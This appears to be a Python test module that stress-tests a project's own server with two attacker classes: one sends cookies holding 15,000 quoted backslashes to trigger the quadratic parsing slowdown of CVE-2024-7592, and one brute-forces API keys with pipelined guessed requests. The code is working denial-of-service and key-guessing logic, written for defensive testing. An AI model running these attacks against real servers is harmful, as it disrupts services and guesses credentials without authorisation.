"""Attackers that ask over HTTP."""

import itertools
import socket
import time
from contextlib import suppress

from tests.attack.attacker import Address, Attacker, Tally
from tests.attack.site import ORIGIN
from tests.transports.raw import RawClient, handshake

# Plain connections may have their token in a cookie, the others never look at it.
_PLAIN_PATH = "/ws/x"
_PATIENCE = 10.0
_ANSWER = b"HTTP/1.1 "


class Cookie(Attacker):
    """Handshakes with a cookie of 15 KB of backslashes in quotes, for which Python needs quadratic time.

    CVE-2024-7592; Python 3.11.10, 3.12.6 and later need linear time.
    """

    settings = 'auth.cookie = "session"\n'
    at_once = 4

    def attack(self, deadline: float) -> None:
        cookie = "\\" * 15_000
        request = handshake(_PLAIN_PATH, [f"Origin: {ORIGIN}", f'Cookie: session="{cookie}"'])
        while time.monotonic() < deadline:
            with suppress(OSError):
                self._ask(request)

    def _ask(self, request: bytes) -> None:
        clients = [RawClient(self.address) for _ in range(self.at_once)]
        try:
            for client in clients:
                client.send(request)
                self.tally.connections += 1
                self.tally.messages += 1
                self.tally.bytes += len(request)
            for client in clients:
                self.tally.refused += client.status() != 101
        finally:
            for client in clients:
                client.socket.close()


class ApiKeys(Attacker):
    """Guesses the key of the API on connections that stay, several guesses before an answer."""

    connections = 8
    # The node takes more than this from a client that does not wait.
    pipelined = 8

    def __init__(self, address: Address) -> None:
        super().__init__(address)
        self._numbers = itertools.count()

    def attack(self, deadline: float) -> None:
        open_: list[socket.socket] = []
        while time.monotonic() < deadline:
            try:
                while len(open_) < self.connections:
                    open_.append(socket.create_connection(self.address, _PATIENCE))
                    self.tally.connections += 1
                for connection in open_:
                    self._ask(connection)
                open_ = [connection for connection in open_ if self._is_answered(connection)]
            except OSError:
                self.tally.refused += 1
                for connection in open_:
                    connection.close()
                open_ = []

    @classmethod
    def note(cls, tally: Tally) -> str:
        return f"{tally.answers / tally.seconds:,.0f}/s 401"

    def _ask(self, connection: socket.socket) -> None:
        requests = b"".join(_guess(next(self._numbers)) for _ in range(self.pipelined))
        connection.sendall(requests)
        self.tally.messages += self.pipelined
        self.tally.bytes += len(requests)

    def _is_answered(self, connection: socket.socket) -> bool:
        """Read all answers; False when the connection ends before."""
        answers = b""
        while answers.count(_ANSWER) < self.pipelined:
            data = connection.recv(65_536)
            if not data:
                connection.close()
                return False
            answers += data
        self.tally.answers += answers.count(_ANSWER + b"401 ")
        return True


def _guess(number: int) -> bytes:
    head = f"POST /api/info HTTP/1.1\r\nHost: test\r\nContent-Length: 2\r\nX-API-Key: {number:032}\r\n\r\n"
    return head.encode() + b"{}"
